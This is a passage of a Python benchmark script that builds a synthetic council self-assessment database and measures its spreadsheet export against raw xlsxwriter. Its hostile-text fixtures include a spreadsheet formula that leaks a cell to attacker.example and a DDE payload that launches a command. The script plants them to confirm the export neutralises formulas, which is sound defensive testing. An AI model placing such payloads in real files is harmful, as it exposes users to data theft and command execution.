"""Benchmark: the cycle workbook of a very large council against raw xlsxwriter (the floor).

    python benchmarks/export.py [--databases sqlite postgresql] [--answers 500000] [--repeat 3]
                                [--no-styled-floor] [--no-csv]
    python benchmarks/export.py --answers 100000 --profile [phases cprofile tracemalloc]   # no comparison

Builds (not timed) a synthetic council whose one open cycle stores about `--answers`
answers: departments (1,437 for 500,000 answers) answering a 400-question departmental
self-assessment (the question shapes of benchmarks/questionnaire.py, repeated under
new ids in ten themed sections, with matters, statutory items and a few conditional
questions), so that the answers are choices, numbers, percentages, lists of choices
and text, evidence on a share of them and a few hostile texts that start with "=",
"+", "-" or "@". The hallmark checklist (part answered), the peer questionnaire
(the demo's peers, through their invitation links), the demo's crime figures, about
one improvement action per department with notes, and the cycle's audit events make
every sheet of the workbook have rows.

Then, each in a fresh Python process so that its peak memory (ru_maxrss) is its own,
taking turns (export, floor, styled floor, CSV, export, ...), `--repeat` times:

1. our export: app.export_jobs.services.write_export(ExportRequest(cycle, None, XLSX), path)
   in an app context: every sheet, streamed from the database, to a file;
2. the floor: raw xlsxwriter in constant_memory mode writing exactly the cells of the
   Responses sheet (the same values in the same order and columns: strings with
   write_string, numbers with write_number, date-times with write_datetime and one
   date format, nothing else). The cells are read back beforehand, not timed, from
   a workbook our export wrote (openpyxl, read-only) and pickled in chunks of rows;
   the floor streams those chunks while it writes, so reading them is inside its time
   (it is also timed alone and printed);
3. for information, the same floor with each cell given the format our Responses sheet gives it (what
   formatting every cell costs inside xlsxwriter; --no-styled-floor to leave it out), and
4. our Responses CSV: write_export(ExportRequest(cycle, None, CSV), path) (--no-csv to leave it out).

It prints the median and best time and the peak memory of each, the export's ratio to
the floor (medians), the baseline memory of idle processes (the interpreter with the app
imported and created; with only xlsxwriter imported), the workbook's size and the row
count of each sheet (read back with openpyxl), and checks that no cell is a formula or
a link. Goals: the export takes at most 1.3x the floor's time, with at most 250 MB peak.

With --profile it builds the same council and, instead of the comparison, runs one
export with its phases timed (cycle_export, the answers pass that writes Responses and
Gaps, Summary, Matrix, closing the workbook) and the process's memory after each, one
under cProfile (top functions by cumulative and by own time), and one under tracemalloc
(what the Python heap holds when the answers pass ends, largest first).

SQLite by default; PostgreSQL through a fresh database on 127.0.0.1:5432
(TEST_POSTGRES_URL to use another server), dropped afterwards.
"""

from __future__ import annotations

import argparse
import csv
import math
import multiprocessing
import os
import pickle
import random
import resource
import shutil
import statistics
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor
from copy import deepcopy
from datetime import UTC, date, datetime, timedelta
from importlib import resources
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from benchmarks.questionnaire import PASSWORD, database_urls, sixty_question_definition  # noqa: E402

QUESTIONS = 400
THEMES = ("functions", "awareness", "leadership", "planning", "decisions", "training", "data", "partnership",
          "practice", "impact")
MATTERS = ("crime-and-disorder", "substance-misuse", "reoffending", "serious-violence")
DEFINITION_ID = "bench-departmental"
COPIED_SURVEYS = ("hallmarks-of-effective-partnership", "peer-benchmarking")
TIME_GOAL = 1.3  # x the floor's time
MEMORY_GOAL_MB = 250
CHUNK_ROWS = 10_000  # rows per pickled chunk of the floor's cells
INSERT_BATCH = 20_000
# The share of a return's questions that hold a stored answer, as generated below (some are hidden by an
# earlier answer, returns in progress leave some out, a few have not started): departments are counted so
# that the cycle stores about --answers answers.
STORED_SHARE = 0.87
PROFILE_MODES = ("phases", "cprofile", "tracemalloc")
RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")

EVIDENCE = (
    "Minutes of the service management team, where this was agreed and is reviewed each quarter.",
    "The service plan, section 4, names the duty and the partnership's priorities.",
    "Risk register entry CD-12, reviewed by the head of service in the last six months.",
    "Training records held by HR: attendance at the community safety briefing for all managers.",
    "Joint tasking minutes with the police neighbourhood team; actions tracked on the partnership log.",
    "See the equality and community safety impact assessment attached to the cabinet report of March, which sets "
    "out the effects on anti-social behaviour, the mitigations agreed with the police and the follow-up review.",
)
LONG_TEXTS = (
    "We work with the community safety team on this.",
    "The department reviews this each year with the partnership analyst and reports to the scrutiny committee.",
    "Not yet: it is on the plan for next year, with the head of service as the owner.",
    "Our licensing officers share intelligence with the police weekly, and joint visits are planned monthly in the "
    "town centre; enforcement outcomes are reported to the partnership's problem-solving group.",
)
ACTIONS = ("Add the duty to the next service plan.", "Brief the management team in the autumn.",
           "Ask the partnership analyst for ward-level data.")
# Text that a spreadsheet would run or follow if it were not kept as text.
HOSTILE = ('=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")', "=cmd|' /C calc'!A0",
           "=1+1", "+SUM(A1:A9)", "-2+3", "@SUM(1,2)")


# --------------------------------------------------------------------------- the questionnaire


def departmental_definition(questions: int = QUESTIONS) -> dict:
    """The sixty shapes repeated under new ids, in ten themed sections, with matters and a few conditions."""
    shapes = sixty_question_definition()["sections"][0]["questions"]
    per_section = math.ceil(questions / len(THEMES))
    sections: list[dict] = []
    for n in range(questions):
        theme = THEMES[n // per_section]
        if not sections or sections[-1]["id"] != theme:
            sections.append({"id": theme, "title": f"{theme.title()} and the duty", "tags": {"theme": theme},
                             "questions": []})
        question = deepcopy(shapes[n % len(shapes)])
        question["id"] = f"{theme}-{n + 1:03d}"
        question["text"] = f"Question {n + 1}: how does your department handle point {n + 1} of {theme}?"
        matters = [MATTERS[n % 4]] + ([MATTERS[(n + 1) % 4]] if n % 5 == 0 else [])
        question["tags"] = {"matter": matters if len(matters) > 1 else matters[0], "statutory": n % 7 == 0}
        if question["type"] in ("scale", "percentage", "number"):
            question["evidence"] = "optional"
        section_questions = sections[-1]["questions"]
        previous = section_questions[-1] if section_questions else None
        if previous is not None and previous["type"] == "yes_no" and "show_if" not in previous and n % 12 == 0:
            question["show_if"] = {"question": previous["id"], "equals": "yes"}
        section_questions.append(question)
    return {"id": DEFINITION_ID, "version": 1, "title": "Benchmark self-assessment (400 questions)",
            "kind": "departmental", "sections": sections}


def write_surveys(surveys: Path) -> None:
    surveys.mkdir(parents=True, exist_ok=True)
    (surveys / f"{DEFINITION_ID}.yaml").write_text(yaml.safe_dump(departmental_definition(), sort_keys=False))
    for name in COPIED_SURVEYS:
        shutil.copy(ROOT / "surveys" / f"{name}.yaml", surveys / f"{name}.yaml")


def answer_value(question: dict, rng: random.Random) -> tuple[Any, bool]:
    """A stored value and whether it is "not applicable", for one of the sixty shapes."""
    kind = question["type"]
    if kind == "yes_no":
        return rng.choice(["yes", "yes", "no"]), False
    if kind == "scale":
        return rng.choice(["none", "some", "full", "full"]), False
    if kind == "number":
        return rng.choice([0, 3, 12, 250]), False
    if kind == "multiple_choice":
        return rng.sample(["crime", "substances", "reoffending", "violence"], rng.randint(1, 4)), False
    if kind == "long_text":
        return (rng.choice(HOSTILE) if rng.random() < 0.002 else rng.choice(LONG_TEXTS)), False
    if rng.random() < 0.05:
        return None, True  # a percentage that does not apply
    return float(rng.choice([20, 45, 60, 80, 100])), False


# --------------------------------------------------------------------------- building the council


def department_count(answers: int) -> int:
    return max(1, math.ceil(answers / (QUESTIONS * STORED_SHARE)))


def _peer_names() -> list[str]:
    text = resources.files("app.demo").joinpath("data/peer_approaches.csv").read_text(encoding="utf-8")
    return list(csv.DictReader(text.splitlines()))


def build(url: str, surveys: Path, answers: int, seed: int = 17) -> dict[str, int]:
    """The synthetic council; returns the cycle's id and what was stored."""
    from flask_migrate import upgrade

    from app import create_app
    from app.cycles.services import CycleDetails, QuestionnaireChoice, create_cycle, open_cycle
    from app.demo.answers import partnership_answers, store_answers
    from app.demo.crime import load_demo_crime_statistics
    from app.demo.peers import create_demo_invitations, reported_approaches
    from app.demo.services import FAMILY_GROUP, OWN_PARTNERSHIP
    from app.extensions import db
    from app.models import (
        Action,
        ActionNote,
        Answer,
        Assignment,
        AuditEvent,
        Department,
        PeerPartnership,
        Role,
        User,
    )
    from app.organisation.services import update_organisation
    from app.questionnaires.registry import definition_from_snapshot
    from app.security.passwords import hash_password

    app = create_app({"ENV": "test", "SQLALCHEMY_DATABASE_URI": url, "SURVEYS_DIR": str(surveys)})
    rng = random.Random(seed)
    departments = department_count(answers)
    questions = [q for s in departmental_definition()["sections"] for q in s["questions"]]
    today = date.today()
    now = datetime.now(UTC).replace(microsecond=0)
    opened = now - timedelta(days=40)
    with app.app_context():
        upgrade()
        update_organisation("Benchmark District Council", "Benchmark Community Safety Partnership")
        password_hash = hash_password(PASSWORD)
        officer = User(name="Bench Officer", email="cso@bench.example", password_hash=password_hash,
                       role=Role.COMMUNITY_SAFETY_OFFICER.value)
        db.session.add(officer)
        made = []
        for n in range(1, departments + 1):
            # One department's name is hostile too: it heads a Matrix column and fills Responses cells.
            name = "=Department of formulas" if n == 7 else f"Department {n:04d}"
            department = Department(code=f"D{n:04d}", name=name, description="", active=True)
            made.append(department)
            db.session.add(User(name=f"Lead Officer {n:04d}", email=f"lead{n:04d}@bench.example",
                                password_hash=password_hash, role=Role.LEAD_OFFICER.value, departments=[department]))
        db.session.add_all(made)
        db.session.commit()
        lead_of = {d.id: d.lead_officers[0].id for d in made}
        email_of = {d.lead_officers[0].id: d.lead_officers[0].email for d in made}

        peers: dict[str, PeerPartnership] = {}
        for row in _peer_names():
            if row["partnership"] not in peers:
                peers[row["partnership"]] = PeerPartnership(
                    name=row["partnership"], area=row["county"], family_group=FAMILY_GROUP,
                    is_own=row["partnership"] == OWN_PARTNERSHIP)
        db.session.add_all(peers.values())
        db.session.commit()
        load_demo_crime_statistics()
        peers = {p.name: p for p in db.session.scalars(db.select(PeerPartnership))}

        cycle = create_cycle(officer, CycleDetails(
            "Benchmark cycle 2026 to 2027", date(2026, 4, 1), date(2027, 3, 31), today + timedelta(days=30),
            (QuestionnaireChoice(DEFINITION_ID), *(QuestionnaireChoice(name) for name in COPIED_SURVEYS))))
        open_cycle(officer, cycle, today)
        cycle.opened_at = opened
        statuses = ["submitted"] * 10 + ["accepted"] * 5 + ["returned"] * 2 + ["in_progress"] * 3 + ["not_started"]
        rows: list[dict[str, Any]] = []
        events: list[dict[str, Any]] = []
        stored = 0

        def flush_answers() -> None:
            nonlocal stored
            if rows:
                db.session.execute(db.insert(Answer), rows)
                stored += len(rows)
                rows.clear()

        assignments = list(db.session.scalars(db.select(Assignment).where(Assignment.cycle_id == cycle.id)
                                              .order_by(Assignment.id)))
        for assignment in assignments:
            if assignment.respondent_type == "partnership":
                store_answers(assignment, partnership_answers(definition_from_snapshot(assignment.snapshot)),
                              officer, opened + timedelta(days=6))
                assignment.status, assignment.started_at = "in_progress", opened + timedelta(days=2)
                continue
            status = rng.choice(statuses)
            lead = lead_of[assignment.department_id]
            assignment.status = status
            if status == "not_started":
                continue
            started = opened + timedelta(days=rng.randint(0, 10), minutes=rng.randint(0, 600))
            assignment.started_at = started
            events.append({"occurred_at": started, "actor_id": lead, "actor_email": email_of[lead],
                           "action": "assignment.started", "object_type": "assignment",
                           "object_id": str(assignment.id), "summary": "Started the return",
                           "before": {"status": "not_started"}, "after": {"status": "in_progress"}})
            if status != "in_progress":
                submitted = started + timedelta(days=rng.randint(1, 20))
                assignment.submitted_at, assignment.submission_count = submitted, 1
                events.append({"occurred_at": submitted, "actor_id": lead, "actor_email": email_of[lead],
                               "action": "assignment.submitted", "object_type": "assignment",
                               "object_id": str(assignment.id), "summary": "Submitted the return",
                               "before": {"status": "in_progress"}, "after": {"status": "submitted", "submission": 1}})
                if status in ("accepted", "returned"):
                    assignment.reviewed_at = submitted + timedelta(days=2)
                    events.append({"occurred_at": assignment.reviewed_at, "actor_id": None,
                                   "actor_email": "cso@bench.example", "action": f"assignment.{status}",
                                   "object_type": "assignment", "object_id": str(assignment.id),
                                   "summary": ("Returned for changes: please add the evidence for section 3"
                                               if status == "returned" else "Accepted the return"),
                                   "before": {"status": "submitted"}, "after": {"status": status}})
            skip = 0.3 if status == "in_progress" else 0.02
            given: dict[str, Any] = {}
            for question in questions:
                condition = question.get("show_if")
                if condition is not None and given.get(condition["question"]) != condition["equals"]:
                    continue  # not asked: cleared when the return is submitted
                if rng.random() < skip:
                    continue
                value, not_applicable = answer_value(question, rng)
                given[question["id"]] = value
                evidence = ""
                box = question.get("evidence")
                if (isinstance(box, dict) and value == "yes") or (box == "optional" and rng.random() < 0.4):
                    evidence = rng.choice(HOSTILE) if rng.random() < 0.001 else rng.choice(EVIDENCE)
                rows.append({"assignment_id": assignment.id, "question_id": question["id"], "value": value,
                             "not_applicable": not_applicable, "evidence": evidence,
                             "action": rng.choice(ACTIONS) if rng.random() < 0.05 else "",
                             "changed_in_version": 1, "updated_by_id": lead,
                             "updated_at": started + timedelta(minutes=rng.randint(0, 20000))})
                if len(rows) >= INSERT_BATCH:
                    flush_answers()
        flush_answers()
        db.session.commit()
        create_demo_invitations(cycle, reported_approaches(_peer_names()), peers, officer, opened, today)

        # About one improvement action per department, most with notes, each with its audit events.
        gap_questions = [q for q in questions if q["type"] in ("yes_no", "scale", "number")]
        action_rows = []
        for department in made:
            if rng.random() < 0.2:
                continue
            question = rng.choice(gap_questions)
            status = rng.choice(["not_started", "in_progress", "in_progress", "done", "dropped"])
            raised = opened + timedelta(days=rng.randint(15, 35))
            action_rows.append({
                "cycle_id": cycle.id, "department_id": department.id, "definition_id": DEFINITION_ID,
                "question_id": question["id"], "gap_text": question["text"],
                "title": "=Fix this now" if department.code == "D0003" else f"Close the gap on {question['id']}",
                "done_looks_like": "The service plan names the duty and the head of service reports on it.",
                "owner_id": lead_of[department.id], "due_date": today + timedelta(days=rng.randint(-30, 120)),
                "status": status, "dropped_reason": "Covered by the corporate plan" if status == "dropped" else "",
                "created_by_id": officer.id, "created_at": raised, "updated_at": raised + timedelta(days=3),
                "version": 1})
        db.session.execute(db.insert(Action), action_rows)
        db.session.commit()
        notes = []
        for action in db.session.execute(db.select(Action.id, Action.status, Action.created_at, Action.owner_id,
                                                   Action.title).where(Action.cycle_id == cycle.id)):
            events.append({"occurred_at": action.created_at, "actor_id": officer.id, "actor_email": officer.email,
                           "action": "action.created", "object_type": "action", "object_id": str(action.id),
                           "summary": f"Raised the action ‘{action.title}’",
                           "before": None, "after": {"title": action.title, "status": "not_started"}})
            for day in range(rng.randint(0, 3) if action.status != "not_started" else 0):
                written = action.created_at + timedelta(days=2 * day + 1)
                notes.append({"action_id": action.id, "written_at": written, "author_id": action.owner_id,
                              "text": "Progress: drafted and shared with the management team.",
                              "status": action.status})
                events.append({"occurred_at": written, "actor_id": action.owner_id, "actor_email": None,
                               "action": "action.updated", "object_type": "action", "object_id": str(action.id),
                               "summary": "=SUM(1,2) added a note" if action.id == 5 else "Added a progress note",
                               "before": {"status": "in_progress"}, "after": {"status": action.status}})
        if notes:
            db.session.execute(db.insert(ActionNote), notes)
        for start in range(0, len(events), INSERT_BATCH):
            db.session.execute(db.insert(AuditEvent), events[start:start + INSERT_BATCH])
        db.session.commit()
        counts = {
            "cycle_id": cycle.id, "departments": departments, "departmental_answers": stored,
            "answers": db.session.scalar(db.select(db.func.count()).select_from(Answer)),
            "returns": db.session.scalar(db.select(db.func.count()).select_from(Assignment)),
            "actions": len(action_rows), "notes": len(notes),
            "audit_events": db.session.scalar(db.select(db.func.count()).select_from(AuditEvent)),
        }
        db.engine.dispose()
        return counts


# --------------------------------------------------------------------------- measured in fresh processes


def peak_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # Linux: kilobytes


def current_mb() -> float:
    try:
        with open("/proc/self/statm") as statm:
            return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20
    except OSError:
        return peak_mb()


def _app(url: str, surveys: Path):
    from app import create_app

    return create_app({"ENV": "test", "SQLALCHEMY_DATABASE_URI": url, "SURVEYS_DIR": str(surveys)})


def idle_app(url: str, surveys: Path) -> float:
    """Peak memory of a process that has imported and created the app, and done nothing else."""
    import app.export_jobs.services  # noqa: F401  (everything an export imports)

    _app(url, surveys)
    return peak_mb()


def idle_floor() -> float:
    """Peak memory of a process that has imported xlsxwriter, and done nothing else."""
    import xlsxwriter  # noqa: F401

    return peak_mb()


def run_export(url: str, surveys: Path, cycle_id: int, path: str, kind: str) -> dict[str, float]:
    """One export, timed from the call to its return, to a file."""
    from app.export_jobs.services import CSV, XLSX, ExportRequest, write_export
    from app.extensions import db
    from app.models import Cycle

    app = _app(url, surveys)
    with app.app_context():
        cycle = db.session.get(Cycle, cycle_id)
        before = peak_mb()
        started = time.perf_counter()
        write_export(ExportRequest(cycle, None, XLSX if kind == "xlsx" else CSV), path, actor=None,
                     generated_by="benchmark", how="benchmark")
        seconds = time.perf_counter() - started
        db.engine.dispose()
    return {"seconds": seconds, "peak_mb": peak_mb(), "before_mb": before, "bytes": os.path.getsize(path)}


def _chunks(path: str) -> Iterator[list[tuple[Any, ...]]]:
    with open(path, "rb") as source:
        while True:
            try:
                yield pickle.load(source)
            except EOFError:
                return


def run_floor(cells: str, path: str, styled: bool = False) -> dict[str, float]:
    """Raw xlsxwriter, constant_memory: the Responses cells, streamed from the pickle chunks as it writes.

    `styled` (for information, not the floor): each cell also gets the format our Responses sheet gives it
    (the header's, its column's, or its column's with a quote prefix for risky text), to show what
    formatting every cell costs in xlsxwriter itself.
    """
    from xlsxwriter.workbook import Workbook

    kinds: list[str] = []
    specs: dict[str, dict[str, Any]] = {}
    if styled:
        from app.exports.sheets import STYLE_SPECS
        from app.exports.workbook_columns import RESPONSES_COLUMNS

        kinds, specs = [column.kind.value for column in RESPONSES_COLUMNS], STYLE_SPECS
    before = peak_mb()
    started = time.perf_counter()
    workbook = Workbook(path, {"constant_memory": True})
    sheet = workbook.add_worksheet("Responses")
    moment = workbook.add_format({"num_format": "d mmm yyyy hh:mm"})
    write_string, write_number, write_datetime = sheet.write_string, sheet.write_number, sheet.write_datetime
    plain: list[Any] = [None] * 64
    quoted: list[Any] = [None] * 64
    if styled:
        plain = [workbook.add_format(specs[kind]) for kind in kinds]
        quoted = [workbook.add_format({**specs[kind], "quote_prefix": True}) for kind in kinds]
        header_plain = [workbook.add_format(specs["header"])] * len(kinds)
        header_quoted = [workbook.add_format({**specs["header"], "quote_prefix": True})] * len(kinds)
        moment = plain[kinds.index("datetime")]
    row = 0
    for chunk in _chunks(cells):
        for values in chunk:
            styles, risky = (header_plain, header_quoted) if styled and row == 0 else (plain, quoted)
            for col, value in enumerate(values):
                if value is None:
                    continue
                kind = type(value)
                if kind is str:
                    write_string(row, col, value, quoted[col] if styled and value.startswith(RISKY_STARTS)
                                 else styles[col])
                elif kind is datetime:
                    write_datetime(row, col, value, moment)
                else:
                    write_number(row, col, value, styles[col])
            row += 1
    workbook.close()
    seconds = time.perf_counter() - started
    peak = peak_mb()
    started = time.perf_counter()
    for _chunk in _chunks(cells):
        pass
    return {"seconds": seconds, "peak_mb": peak, "before_mb": before, "bytes": os.path.getsize(path),
            "reading_seconds": time.perf_counter() - started, "rows": row}


def count_in_stream(stream: Any, found: dict[bytes, int]) -> None:
    """Add to `found` how often each of its byte strings occurs in a stream, read a megabyte at a time."""
    tails = dict.fromkeys(found, b"")
    while block := stream.read(1 << 20):
        for pattern in found:
            text = tails[pattern] + block  # the tail is shorter than the pattern: nothing is counted twice
            found[pattern] += text.count(pattern)
            tails[pattern] = text[-(len(pattern) - 1):]


def read_back(workbook_path: str, cells: str) -> dict[str, Any]:
    """Every sheet's row count, the Responses cells pickled in chunks for the floor, and a safety check."""
    from openpyxl import load_workbook

    workbook = load_workbook(workbook_path, read_only=True)
    sheets: dict[str, tuple[int, int, int]] = {}  # rows, columns, cells with something in them
    risky_text = 0
    with open(cells, "wb") as out:
        for sheet in workbook.worksheets:
            rows = columns = filled = 0
            chunk: list[tuple[Any, ...]] = []
            responses = sheet.title == "Responses"
            for values in sheet.iter_rows(values_only=True):
                rows += 1
                columns = max(columns, len(values))
                filled += sum(1 for v in values if v is not None)
                if responses:
                    risky_text += sum(1 for v in values if isinstance(v, str) and v.startswith(RISKY_STARTS))
                    chunk.append(values)
                    if len(chunk) == CHUNK_ROWS:
                        pickle.dump(chunk, out, protocol=pickle.HIGHEST_PROTOCOL)
                        chunk = []
            if chunk:
                pickle.dump(chunk, out, protocol=pickle.HIGHEST_PROTOCOL)
            sheets[sheet.title] = (rows, columns, filled)
    workbook.close()
    found = {b"<f>": 0, b"<f ": 0, b"<hyperlink ": 0}
    with zipfile.ZipFile(workbook_path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                with archive.open(name) as part:
                    count_in_stream(part, found)
    formulas, links = found[b"<f>"] + found[b"<f "], found[b"<hyperlink "]
    return {"sheets": sheets, "risky_text": risky_text, "formulas": formulas, "links": links}


def in_fresh_process(function: Callable[..., Any], *args: Any) -> Any:
    """Run in a new Python process (spawned, not forked): its peak memory is its own."""
    with ProcessPoolExecutor(max_workers=1, mp_context=multiprocessing.get_context("spawn")) as pool:
        return pool.submit(function, *args).result()


# --------------------------------------------------------------------------- where the time and memory go


def profile_export(url: str, surveys: Path, cycle_id: int, path: str, mode: str, top: int) -> str:
    """One export: its phases timed (mode "phases"), under cProfile ("cprofile") or tracemalloc ("tracemalloc")."""
    import cProfile
    import io
    import pstats
    import tracemalloc

    from xlsxwriter.workbook import Workbook

    import app.export_jobs.services as services
    import app.exports.sheets as sheets
    import app.exports.workbook as book
    from app.export_jobs.services import XLSX, ExportRequest, write_export
    from app.extensions import db
    from app.models import Cycle

    app = _app(url, surveys)
    lines: list[str] = []
    marks: list[tuple[str, float, float, float]] = []  # phase, seconds, current MB, peak MB
    snapshot: list[Any] = []

    def timed(label: str, function: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(*args: Any, **kwargs: Any) -> Any:
            started = time.perf_counter()
            result = function(*args, **kwargs)
            if label == "answers pass (Responses, Gaps)" and mode == "tracemalloc":
                snapshot.append(tracemalloc.take_snapshot())
            marks.append((label, time.perf_counter() - started, current_mb(), peak_mb()))
            return result
        return wrapper

    by_sheet: dict[str, list[float]] = {}  # sheet -> [seconds in Table.write_row, rows]
    if mode == "phases":
        write_row = sheets.Table.write_row

        def counted_write_row(table: Any, values: Any, *, header: bool = False) -> None:
            started = time.perf_counter()
            write_row(table, values, header=header)
            spent = by_sheet.setdefault(table.sheet.name, [0.0, 0])
            spent[0] += time.perf_counter() - started
            spent[1] += 1
        sheets.Table.write_row = counted_write_row
    if mode in ("phases", "tracemalloc"):
        services.cycle_export = timed("cycle_export (queries, definitions, small sheets' data)",
                                      services.cycle_export)
        book._write_answers = timed("answers pass (Responses, Gaps)", book._write_answers)
        book._write_summary = timed("Summary", book._write_summary)
        book._write_matrix = timed("Matrix", book._write_matrix)
        Workbook.close = timed("Workbook.close (assembling and zipping the files)", Workbook.close)
    with app.app_context():
        cycle = db.session.get(Cycle, cycle_id)
        request = ExportRequest(cycle, None, XLSX)
        profiler = cProfile.Profile() if mode == "cprofile" else None
        if mode == "tracemalloc":
            tracemalloc.start(8)
        started_mb = current_mb()
        started = time.perf_counter()
        if profiler is not None:
            profiler.enable()
        write_export(request, path, actor=None, generated_by="benchmark", how="benchmark")
        if profiler is not None:
            profiler.disable()
        total = time.perf_counter() - started
        db.engine.dispose()
    if mode == "phases":
        lines.append(f"  phases of one export ({total:.1f} s in all; memory {started_mb:.0f} MB before it):")
        lines.append(f"    {'phase':58} {'seconds':>8} {'share':>6} {'MB now':>7} {'MB peak':>8}")
        for label, seconds, now_mb, peak in marks:
            lines.append(f"    {label:58} {seconds:8.1f} {seconds / total:6.0%} {now_mb:7.0f} {peak:8.0f}")
        rest = total - sum(m[1] for m in marks)
        lines.append(f"    {'the rest (About, Hallmarks, peers, crime, Actions, Audit log)':58} {rest:8.1f} "
                     f"{rest / total:6.0%}")
        lines.append("  time inside Table.write_row (formatting and writing the cells), by sheet:")
        for name, (seconds, rows) in sorted(by_sheet.items(), key=lambda item: -item[1][0]):
            lines.append(f"    {name:20} {rows:>9,} rows {seconds:8.1f} s {seconds / total:6.0%} of the export")
    elif mode == "cprofile":
        for order in ("cumulative", "tottime"):
            out = io.StringIO()
            pstats.Stats(profiler, stream=out).strip_dirs().sort_stats(order).print_stats(top)
            body = out.getvalue()
            body = body[body.find("   ncalls"):] if "   ncalls" in body else body
            lines.append(f"  cProfile, top {top} by {order} time ({total:.1f} s under the profiler):")
            lines.extend("    " + line for line in body.rstrip().splitlines())
    else:
        current, peak = tracemalloc.get_traced_memory()
        lines.append(f"  tracemalloc: Python heap peak {peak / 2**20:.0f} MB during the export "
                     f"({current / 2**20:.0f} MB at its end); held when the answers pass ended, largest first:")
        if snapshot:
            for stat in snapshot[0].statistics("lineno")[:top]:
                frame = stat.traceback[0]
                where = f"{Path(frame.filename).parent.name}/{Path(frame.filename).name}:{frame.lineno}"
                lines.append(f"    {stat.size / 2**20:7.1f} MB {stat.count:>9,} blocks  {where}")
        tracemalloc.stop()
    return "\n".join(lines)


# --------------------------------------------------------------------------- run


def _mb(value: float) -> str:
    return f"{value:,.0f} MB"


def measure(label: str, url: str, surveys: Path, work: Path, args: argparse.Namespace) -> None:
    departments = department_count(args.answers)
    print(f"\n{label}: building {departments:,} departments x {QUESTIONS} questions, the hallmark checklist, "
          "peers, crime figures, actions and audit events ...", flush=True)
    started = time.perf_counter()
    built = in_fresh_process(build, url, surveys, args.answers)
    print(f"  built in {time.perf_counter() - started:.0f} s: {built['returns']:,} returns, {built['answers']:,} "
          f"stored answers ({built['departmental_answers']:,} departmental), {built['actions']:,} actions with "
          f"{built['notes']:,} notes, {built['audit_events']:,} audit events", flush=True)
    cycle_id = built["cycle_id"]
    workbook, floor_book, csv_path = str(work / "export.xlsx"), str(work / "floor.xlsx"), str(work / "export.csv")
    cells = str(work / "responses-cells.pickle")

    if args.profile is not None:
        for mode in args.profile or PROFILE_MODES:
            print(in_fresh_process(profile_export, url, surveys, cycle_id, workbook, mode, args.top), flush=True)
        return

    started = time.perf_counter()
    in_fresh_process(run_export, url, surveys, cycle_id, workbook, "xlsx")  # not timed: the floor's cells
    checked = in_fresh_process(read_back, workbook, cells)
    print(f"  first export and reading it back for the floor's cells (not timed): "
          f"{time.perf_counter() - started:.0f} s", flush=True)
    idle = {"app": in_fresh_process(idle_app, url, surveys), "xlsxwriter": in_fresh_process(idle_floor)}

    runs: dict[str, list[dict[str, float]]] = {"export": [], "floor": [], "styled": [], "csv": []}
    for turn in range(args.repeat):
        runs["export"].append(in_fresh_process(run_export, url, surveys, cycle_id, workbook, "xlsx"))
        runs["floor"].append(in_fresh_process(run_floor, cells, floor_book))
        if not args.no_styled_floor:
            runs["styled"].append(in_fresh_process(run_floor, cells, floor_book, True))
        if not args.no_csv:
            runs["csv"].append(in_fresh_process(run_export, url, surveys, cycle_id, csv_path, "csv"))
        print(f"  turn {turn + 1}: " + ", ".join(f"{name} {found[-1]['seconds']:.1f} s"
                                                for name, found in runs.items() if found), flush=True)

    def figures(name: str) -> dict[str, float]:
        times = [r["seconds"] for r in runs[name]]
        return {"median": statistics.median(times), "best": min(times),
                "peak": max(r["peak_mb"] for r in runs[name]), "before": max(r["before_mb"] for r in runs[name]),
                "bytes": runs[name][-1]["bytes"]}

    export, floor = figures("export"), figures("floor")
    rows, columns, _cells = checked["sheets"]["Responses"]
    print(f"\n  {built['answers']:,} stored answers; the Responses sheet: {rows - 1:,} rows (return x question) "
          f"x {columns} columns; {args.repeat} turns, each run in a fresh process")
    print(f"  idle process, app imported and created: {_mb(idle['app'])}; "
          f"idle process, xlsxwriter imported: {_mb(idle['xlsxwriter'])}")
    print(f"\n  {'':44} {'median':>8} {'best':>8} {'peak':>9} {'before':>9} {'file':>9} {'x floor':>8}")
    named = [("our export (workbook, all sheets)", export), ("floor: raw xlsxwriter, Responses cells", floor)]
    if runs["styled"]:
        named.append(("floor + our cell formats (information)", figures("styled")))
    if runs["csv"]:
        named.append(("our Responses CSV", figures("csv")))
    for name, f in named:
        print(f"  {name:44} {f['median']:7.1f}s {f['best']:7.1f}s {_mb(f['peak']):>9} {_mb(f['before']):>9} "
              f"{f['bytes'] / 2**20:7.1f}MB {f['median'] / floor['median']:7.2f}x")
    reading = statistics.median(r["reading_seconds"] for r in runs["floor"])
    print(f"  (peak: the process's ru_maxrss, the worst of the turns; before: its ru_maxrss just before the timed "
          f"call. The floor's time includes reading its cells from the pickle chunks: {reading:.1f} s alone, median.)")
    if runs["floor"][-1]["rows"] != rows:
        print(f"  WARNING: the floor wrote {runs['floor'][-1]['rows']:,} rows, the Responses sheet has {rows:,}")

    print(f"\n  The workbook: {export['bytes'] / 2**20:.1f} MB; sheets (rows including the header x columns, "
          "cells with something in them): "
          + ", ".join(f"{name} {r:,} x {c} ({n:,})" for name, (r, c, n) in checked["sheets"].items()))
    cells = {name: n for name, (_r, _c, n) in checked["sheets"].items()}
    print(f"  Cells written: {sum(cells.values()):,} by our export, {cells['Responses']:,} by the floor "
          f"({sum(cells.values()) / cells['Responses']:.2f}x; Gaps {cells.get('Gaps', 0):,}, "
          f"Matrix {cells.get('Matrix', 0):,})")
    print(f"  Safe to open: {checked['formulas']} formula cells and {checked['links']} links in any sheet; "
          f"{checked['risky_text']:,} Responses cells start with = + - @ or a control character and are text")

    ratio = export["median"] / floor["median"]
    print(f"\n  Goals: time at most {TIME_GOAL}x the floor's: {'meets' if ratio <= TIME_GOAL else 'MISSES'} "
          f"({ratio:.2f}x: {export['median']:.1f} s against {floor['median']:.1f} s); peak memory at most "
          f"{MEMORY_GOAL_MB} MB: {'meets' if export['peak'] <= MEMORY_GOAL_MB else 'MISSES'} "
          f"({_mb(export['peak'])})", flush=True)


def main() -> None:
